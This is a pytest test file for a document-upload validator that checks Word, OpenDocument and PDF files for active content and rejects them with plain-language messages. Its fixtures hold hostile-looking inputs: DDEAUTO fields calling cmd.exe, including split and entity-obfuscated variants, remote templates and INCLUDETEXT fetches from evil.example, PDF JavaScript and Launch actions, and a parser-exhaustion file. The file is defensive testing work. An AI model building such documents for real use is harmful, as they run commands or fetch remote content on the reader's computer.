"""Documents that would act on the computer of whoever opens them are refused, in plain words."""

import io
import time
from zipfile import ZipFile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name, Stream, String

from als.core.files import filetypes
from als.core.files.texts import text_of
from als.core.files.uploads import look_into
from tests import files
from tests.each import each

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def code_of(name, content):
    """Return the code of the refusal, or None if the file is taken."""
    try:
        look_into(files.sent(name, content))
    except ValidationError as refused:
        return refused.code
    return None


def related(kind, target, *, outside=True, of="word/document.xml", **more):
    """A Word file with one relation of a part."""
    folder, _slash, part = of.rpartition("/")
    mode = ' TargetMode="External"' if outside else ""
    xml = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{OFFICE}{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return files.open_xml(**{f"{folder}/_rels/{part}.rels": xml}, **more)


def field(*pieces):
    """A Word file with one field, whose instruction is in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    body = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'
    return files.open_xml(**{"word/document.xml": f'<w:d xmlns:w="{WORD}">{body}</w:d>'})


def simple_field(instruction):
    xml = f'<w:d xmlns:w="{WORD}"><w:fldSimple w:instr="{instruction}"/></w:d>'
    return files.open_xml(**{"word/header1.xml": xml})


def elsewhere(part, encoding="utf-8"):
    """A Word file whose main part has another name, with a field that fetches."""
    xml = f'<?xml version="1.0" encoding="{encoding}"?><w:d xmlns:w="{WORD}"><w:instrText>DDE x'
    types = files.declared(part, files.MAIN_PART["docx"][1])
    if encoding == "utf-7":
        xml = xml.replace("instrText", "+AGkAbgBzAHQAcgBUAGUAeAB0-")
    package = {"[Content_Types].xml": types, "_rels/.rels": files.RELATED % part, part: xml}
    return files.zipped(package)


def doubled():
    content = io.BytesIO(field("DDE Excel a.xlsx"))
    with ZipFile(content, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("word/document.xml", "<document/>")
    return content.getvalue()


def workbook(**more):
    return files.open_xml("xlsx", **more)


CHART = {"of": "word/charts/chart1.xml", "outside": False}
ODT_XML = '<x xmlns:xlink="http://www.w3.org/1999/xlink">%s</x>'


@each(
    ("content", "code"),
    [
        (related("attachedTemplate", "https://evil.example/t.dotm"), "remote"),
        (related("attachedTemplate", r"\\server\share\t.dotm"), "remote"),
        (related("attachedTemplate", "file:///C:/Users/Ann/Normal.dotm"), None),
        (related("image", "http://evil.example/pixel.png"), "remote"),
        (related("frame", "http://evil.example/"), "remote"),
        (related("hyperlink", "https://example.org/"), None),
        (related("oleObject", "embeddings/oleObject1.bin", outside=False), "embedded"),
        (related("oleObject", "file:///C:/x.xls"), "remote"),
        (related("package", "embeddings/a.docx", outside=False), "embedded"),
        (related("control", "activeX/a.xml", outside=False), "embedded"),
        (related("aFChunk", "a.html", outside=False), "embedded"),
        (related("package", "../embeddings/a.xlsx", **CHART,
                 **{"word/embeddings/a.xlsx": workbook()}), None),
        (related("package", "../embeddings/a.xlsx", **CHART,
                 **{"word/embeddings/a.xlsx": workbook(**{"xl/externalLinks/e.xml": "x"})}),
         "embedded"),
        (related("package", "../embeddings/a.xlsx", **CHART,
                 **{"word/embeddings/a.xlsx": workbook(**{"xl/vbaProject.bin": "x"})}), "embedded"),
        (field("DDEAUTO c:\\\\windows\\\\cmd.exe"), "fields"),
        (field("DD", "EAUTO ", "cmd"), "fields"),
        (field(" INCLUDETEXT &quot;http://evil.example/a.docx&quot;"), "fields"),
        (simple_field("DDE Excel a.xlsx"), "fields"),
        (field("<![CDATA[DDE]]>", "<!-- x -->AUTO cmd"), "fields"),
        (field("&#68;DEAUTO cmd"), "fields"),
        (elsewhere("word/document.dat"), "fields"),
        (elsewhere("docProps/document.xml"), "fields"),
        (elsewhere("[word]/document.xml"), "fields"),
        (elsewhere("word/document.xml", "utf-7"), "unreadable"),
        (field(" PAGE "), None),
        (field(" HYPERLINK &quot;https://example.org&quot; "), None),
        (field(" ADDRESS Linked "), None),
    ],
)  # fmt: skip
def test_a_word_file_that_acts_is_refused_and_an_ordinary_one_taken(content, code):
    assert code_of("plan.docx", content) == code


def test_a_package_with_two_parts_of_one_name_is_refused():
    assert code_of("plan.docx", doubled()) == "damaged"


@each(
    ("xml", "code"),
    [
        ("<dde-source/>", "fields"),
        ("<event-listener/>", "macros"),
        ('<image xlink:href="https://evil.example/p.png"/>', "remote"),
        ('<section-source xlink:href="../other.odt"/>', None),
        ('<image xlink:href="Pictures/1.png"/>', None),
        ('<a xlink:href="https://example.org"/>', None),
        ("<object-ole/>", "embedded"),
    ],
)
def test_an_open_document_that_acts_is_refused(xml, code):
    assert code_of("plan.odt", files.odt(**{"content.xml": ODT_XML % xml})) == code


def test_a_document_with_a_password_is_said_to_have_one():
    manifest = {"META-INF/manifest.xml": "<m><encryption-data/></m>"}
    ole = b"\xd0\xcf\x11\xe0" + bytes(600) + "EncryptedPackage".encode("utf-16-le")
    with pytest.raises(ValidationError) as refused:
        look_into(files.sent("plan.docx", ole))
    assert (code_of("plan.odt", files.odt(**manifest)), refused.value.messages) == (
        "locked",
        [
            (
                "“plan.docx” is a file with a password, although its name ends in .docx. "
                "Save it without a password, then choose it again."
            )
        ],
    )


def made(change, **options):
    """A PDF of one page after a change, its objects packed as most programs pack them."""
    document, content = pikepdf.new(), io.BytesIO()
    document.add_blank_page()
    change(document)
    options.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.generate)
    document.save(content, **options)
    return content.getvalue()


def script(document):
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)


def elsewhere(document):
    document.Root.OpenAction = Dictionary(
        S=Name.GoToR, F=String("\\\\server\\share\\a.pdf"), D=String("a")
    )


def launch(document):
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
    )  # fmt: skip
    document.pages[0].Annots = Array([document.make_indirect(link)])


def attached(document):
    document.attachments["a.docx"] = pikepdf.AttachedFileSpec(document, b"x", filename="a.docx")


def xfa(document):
    document.Root.AcroForm = Dictionary(XFA=Stream(document, b"<xdp/>"), Fields=Array([]))


def web_link(document):
    uri = Dictionary(S=Name.URI, URI=String("https://example.org"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=uri)
    document.pages[0].Annots = Array([document.make_indirect(link)])
    document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])


def nothing(_document):
    pass


@pytest.mark.slow
@each(
    ("change", "code"),
    [(script, "scripts"), (launch, "scripts"), (elsewhere, "remote"), (attached, "embedded"),
     (xfa, "form"), (web_link, None)],
)  # fmt: skip
def test_a_pdf_that_acts_is_refused_and_one_with_links_taken(change, code):
    assert code_of("plan.pdf", made(change)) == code


@pytest.mark.slow
def test_a_word_spelt_otherwise_is_the_same_word():
    plain = made(script, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert b"/JavaScript" in plain
    spelt = plain.replace(b"/JavaScript", b"/J#61vaScri").replace(b"/JS ", b"/#4aS")
    assert code_of("plan.pdf", spelt) == "scripts"


@pytest.mark.slow
def test_a_pdf_with_a_password_is_refused_with_words():
    with pytest.raises(ValidationError) as refused:
        look_into(files.sent("a.pdf", made(nothing, encryption=pikepdf.Encryption("a", "b"))))
    assert refused.value.messages == [
        (
            "“a.pdf” is protected with a password, or against copying. "
            "Save it without protection, then choose it again."
        )
    ]


BYTES_BEFORE = [b"\xef\xbb\xbf", b"\x1b%-12345X@PJL JOB\r\n", b"x" * 1000, b"\r\n\r\n"]


@each("before", BYTES_BEFORE)
def test_bytes_before_the_mark_and_padding_after_the_end_are_passed_over(before):
    assert code_of("plan.pdf", before + files.pdf() + bytes(5000) + b"\r\n" * 2000) is None


@pytest.mark.slow
def test_a_pdf_with_bytes_before_its_mark_is_searched_too(tmp_path):
    from als.core.files import pdf

    (tmp_path / "a.pdf").write_bytes(b"\xef\xbb\xbf" + pdf.make("<p>Zebras</p>") + bytes(3000))
    with (tmp_path / "a.pdf").open("rb") as file:
        assert "Zebras" in text_of(file, "application/pdf")


def test_two_kinds_in_one_are_refused():
    named = {"%PDF-1.4": "x"}
    hidden = files.zipped(named | {"[Content_Types].xml": files.declared(*files.MAIN_PART["docx"])})
    both = files.pdf() + files.open_xml()
    assert [code_of("a.pdf", both), code_of("a.docx", hidden)] == ["two in one"] * 2


@each(
    ("name", "content", "sentence"),
    [
        ("plan.pdf", files.open_xml("xlsx"), ("“plan.pdf” is a spreadsheet, although its name ends "
         "in .pdf. Save it as PDF, then choose that.")),
        ("costs.xlsx", files.open_xml("xlsx"), ("“costs.xlsx” is a spreadsheet. "
         "Save it as PDF, then choose that.")),
        ("photo.jpg", b"\0\0\0\x18ftypheic" + bytes(50), ("“photo.jpg” is a photo in a phone’s own "
         "format (HEIC), although its name ends in .jpg. Save it as JPEG, then choose that.")),
        ("plan.pdf", b"<!doctype html><p>x", ("“plan.pdf” is a web page, although its name ends in "
         ".pdf. Save it as PDF, then choose that.")),
        ("all.zip", files.zipped({"a": "b"}), ("“all.zip” is an archive. "
         "Unpack it, and choose the files in it one by one.")),
        ("old.doc", b"\xd0\xcf\x11\xe0" + bytes(50), ("“old.doc” is a file of an older Office "
         "program. Save it as DOCX, PPTX or PDF, then choose that.")),
    ],
)  # fmt: skip
def test_what_is_not_taken_is_called_by_its_name(name, content, sentence):
    with pytest.raises(ValidationError) as refused:
        look_into(files.sent(name, content))
    assert refused.value.messages == [sentence]


@pytest.mark.slow
def test_a_document_made_to_be_looked_through_for_ever_is_refused_soon():
    part = b'<w:d xmlns:w="x"><w:instrText/>' + b"<a/>" * 3_000_000 + b"</w:d>"
    many = {f"word/header{number}.xml": part for number in range(8)}
    content = files.open_xml(**many)
    started = time.process_time()
    assert code_of("plan.docx", content) == "unreadable"
    assert time.process_time() - started < 10


def test_no_kind_is_without_a_sentence():
    from als.core.files import dangers

    kinds = {*dangers.ACTIONS.values(), *dangers.KEYS.values(), "remote", "unreadable"}
    assert [filetypes._refused(kind, "a").code for kind in sorted(kinds)] == sorted(kinds)
